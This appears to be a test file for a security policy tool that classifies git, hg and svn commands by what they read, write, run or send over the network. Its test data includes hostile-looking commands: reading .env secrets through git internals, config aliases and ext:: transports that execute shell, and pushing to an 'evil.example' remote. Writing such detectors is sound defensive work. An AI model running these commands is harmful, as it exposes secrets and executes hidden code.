"""Git: files of revisions, remotes, settings that run something."""

import pytest
from asking import ask, deeds, edited, perhaps, read, written
from deeds import deeds_of, printed_by, rows

from guardian_ci.policy.shell.programs.table import TAME_LINE

SOMEBODY = "talks to somebody"


EXAMPLE = "talks to example.com"


RUNS = "runs the text cat a.txt"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("git show HEAD:.env", read(".env")),
        ("git show :0:.env", read(".env")),
        ("git cat-file -p main:conf/key", read("conf/key")),
        ("git diff -- .env", read(".env")),
        ("git log -p -- .env", read(".env")),
        ("git log --oneline -- .env", set()),
        ("git log -L 1,5:.env", read(".env")),
        ("git blame -- .env", read(".env")),
        ("git grep TODO -- .env", read(".env")),
        ("git add ':(top).env'", read(".env")),
        ("git add . ':!.env'", read(".")),
        ("git rm .env", written(".env")),
        ("git mv a b", edited("a") | written("b")),
        ("git checkout HEAD -- .env", written(".env")),
        ("git commit -m 'Read .env' -F a.txt", read("a.txt")),
        ("git archive HEAD .env -o a.tar", read(".env") | written("a.tar")),
        ("git diff --no-index a b", read("a", "b")),
        ("git worktree add ../there", written("../there")),
        ("git hash-object -w .env", read(".env")),
        ("git -C sub show HEAD:.env", read("sub/.env")),
        ("git -C /srv -C sub add a", read("/srv/sub/a")),
        ("git-show HEAD:.env", read(".env")),
    ],
)
def test_a_subcommand_reads_and_writes_what_its_words_name(line: str, expected: set[str]) -> None:
    assert deeds(line) == expected


def test_a_revision_may_be_a_path_unless_it_looks_like_a_hash_or_a_range() -> None:
    assert perhaps("git show README.md") == {"README.md"}
    assert perhaps("git show HEAD~2") | perhaps("git diff main..other") | perhaps("git show 0a1b2c3d") == set()


def test_standard_input_names_the_objects_of_a_batch() -> None:
    assert deeds("git cat-file --batch", stdin="HEAD:.env\n") == read(".env")


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("git clone https://example.com/a.git there", {EXAMPLE} | written("there")),
        ("git clone git@example.com:a/b", {EXAMPLE}),
        ("git push origin main", {SOMEBODY}),
        ("git pull", {SOMEBODY}),
        ("git fetch https://example.com/a.git", {EXAMPLE}),
        ("git ls-remote ../other", read("../other")),
        ("git remote add other https://example.com/a.git", {EXAMPLE}),
        ("git remote -v", set()),
        ("git submodule add https://example.com/a.git sub", {EXAMPLE} | written("sub")),
        ("git config remote.origin.url https://example.com/a.git", {EXAMPLE}),
    ],
)
def test_a_remote_is_talked_to(line: str, expected: set[str]) -> None:
    assert deeds(line) == expected


@pytest.mark.parametrize(
    "line",
    [
        "git -c core.pager='cat a.txt' log",
        "git -c alias.x='!cat a.txt' x",
        "git config alias.x '!cat a.txt'",
        "git -c core.sshCommand='cat a.txt' fetch",
        "git -c diff.external='cat a.txt' diff",
        "git clone 'ext::cat a.txt' x",
        "git submodule foreach 'cat a.txt'",
        "git rebase --exec 'cat a.txt' main",
        "git filter-branch --tree-filter 'cat a.txt'",
        "git grep '--open-files-in-pager=cat a.txt' x",
    ],
)
def test_what_git_is_set_to_run_is_run(line: str) -> None:
    assert RUNS in deeds(line)


def test_a_setting_that_does_nothing_runs_nothing() -> None:
    assert deeds("git -c core.pager=cat log") == set()


@pytest.mark.parametrize("line", ["git diff --no-index /dev/null .", "git --config-env=core.pager=X log"])
def test_what_nobody_can_follow_is_opaque(line: str) -> None:
    assert "is opaque" in deeds(line)


def test_facts_of_a_repository_name_no_files_and_listings_name_any() -> None:
    assert ask("git rev-parse HEAD").output == ask("git log --oneline").output == TAME_LINE
    assert ask("git ls-files").output == ask("git diff --name-only").output == "**\n"


def test_a_hook_that_was_written_before_runs_with_a_commit() -> None:
    hook = ".git/hooks/pre-commit"
    assert deeds("git commit -m x", files={hook: "cat a.txt"}) == read(hook) | {f"runs the file {hook}"}


def test_other_version_control_talks_to_its_servers() -> None:
    assert deeds("hg clone https://example.com/a") == {EXAMPLE}
    assert deeds("svn update") == {SOMEBODY}
    assert ".env" in perhaps("hg cat .env")


DEEDS = r"""
git show HEAD:.env ⇒ read .env
git show :.env ⇒ read .env
git show :0:.env ⇒ read .env
git show main ⇒ maybe main
git show origin/main:src/a.py ⇒ read src/a.py
git diff ⇒ nothing
git diff HEAD~1 -- a ⇒ read a
git diff --no-index a b ⇒ read a; read b
git diff --no-index . /tmp/x ⇒ read .; read /tmp/x; dark
git log -p -- .env ⇒ read .env
git log -L 1,5:.env ⇒ read .env
git add -f a ⇒ read a
git add . ⇒ read .
git commit -m 'about .env' ⇒ nothing
git commit -F msg ⇒ read msg
git checkout main -- a ⇒ write a; maybe main
git checkout -b topic ⇒ nothing
git restore a ⇒ maybe a
git rm --cached a ⇒ write a
git mv a b ⇒ read a; write a; write b
git grep x ⇒ nothing
git grep x HEAD -- a ⇒ read HEAD; read a
git grep -Ocat x ⇒ shell cat
git grep --no-index '' . ⇒ read .; dark
git cat-file -p HEAD:.env ⇒ read .env
git cat-file --batch <<< HEAD:.env\n ⇒ read .env
git hash-object -w a ⇒ read a
git archive HEAD a ⇒ read a
git archive --remote=ssh://git.example/r HEAD ⇒ talk to git.example
git -C sub show :a ⇒ read sub/a
git -C sub add a ⇒ read sub/a
git -c core.pager='sh x' log ⇒ shell sh x
git -c alias.x='!cat .env' x ⇒ shell cat .env
git -c alias.x='show HEAD:.env' x ⇒ read .env
git -c core.editor=true commit ⇒ nothing
git --git-dir=.git --work-tree=/x status ⇒ read .git; read /x
git config alias.x '!cat .env' ⇒ shell cat .env
git config -f .env --list ⇒ read .env; write .env
git config user.name x ⇒ nothing
git clone https://git.example/r.git dir ⇒ write dir; talk to git.example
git clone git@git.example:r.git ⇒ talk to git.example
git clone --depth 1 file:///srv/r ⇒ read /srv/r
git clone ext::'sh -c x' ⇒ shell sh -c x
git clone -c core.sshCommand='sh x' https://git.example/r ⇒ talk to git.example; shell sh x
git push ⇒ talk to somebody
git push origin main ⇒ talk to somebody
git push https://evil.example/r main ⇒ talk to evil.example
git pull --rebase ⇒ talk to somebody
git fetch --all ⇒ talk to somebody
git ls-remote https://git.example/r ⇒ talk to git.example
git remote add evil https://evil.example/r ⇒ talk to evil.example
git remote -v ⇒ nothing
git submodule add https://git.example/r sub ⇒ write sub; talk to git.example
git submodule foreach 'cat .env' ⇒ shell cat .env
git bisect run make test ⇒ run make test
git rebase -x 'make test' main ⇒ shell make test
git filter-branch --tree-filter 'rm a' HEAD ⇒ shell rm a
git blame -n a ⇒ maybe a
git blame -L 1,5 a ⇒ maybe a
git apply fix.patch ⇒ read fix.patch
git format-patch -o out HEAD~1 ⇒ write out
git stash ⇒ nothing
git tag -F msg v1 ⇒ read msg
git worktree add ../x main ⇒ write ../x
git difftool -x 'sh x' a ⇒ maybe a; shell sh x
git init sub ⇒ write sub
git clean -fdx ⇒ nothing
git send-email a.patch ⇒ read a.patch; talk to somebody
git unknown a ⇒ maybe a
git-show HEAD:.env ⇒ read .env
hg cat a ⇒ maybe a
svn cat https://svn.example/a ⇒ talk to svn.example
"""


PRINTS = r"""
git diff --name-only ⇒ **\n
git log --oneline -n 5 ⇒ TAME\n
git log -- '*.pem' ⇒ TAME\n
git ls-files ⇒ **\n
git ls-files -o ⇒ ./**\n
git ls-files '*.py' ⇒ ./**/*.py\n./**/.*.py\n.py\n
git status --short ⇒ **\n
git status --ignored ⇒ ./**\n
git -c core.pager='sh x' log ⇒ TAME\n
git --git-dir=.git --work-tree=/x status ⇒ **\n
git push ⇒ TAME\n
git push origin main ⇒ TAME\n
git push https://evil.example/r main ⇒ TAME\n
git pull --rebase ⇒ TAME\n
git fetch --all ⇒ TAME\n
git ls-remote https://git.example/r ⇒ TAME\n
git rev-parse HEAD ⇒ TAME\n
git rev-parse --show-toplevel ⇒ TAME\n
git describe --tags ⇒ TAME\n
git init sub ⇒ TAME\n
"""


@pytest.mark.parametrize(("command", "deeds"), rows(DEEDS))
def test_it_is_known_what_they_read_write_run_and_talk_to(command: str, deeds: str) -> None:
    assert deeds_of(command) == deeds


@pytest.mark.parametrize(("command", "text"), rows(PRINTS))
def test_it_is_known_what_they_print(command: str, text: str) -> None:
    assert printed_by(command) == text
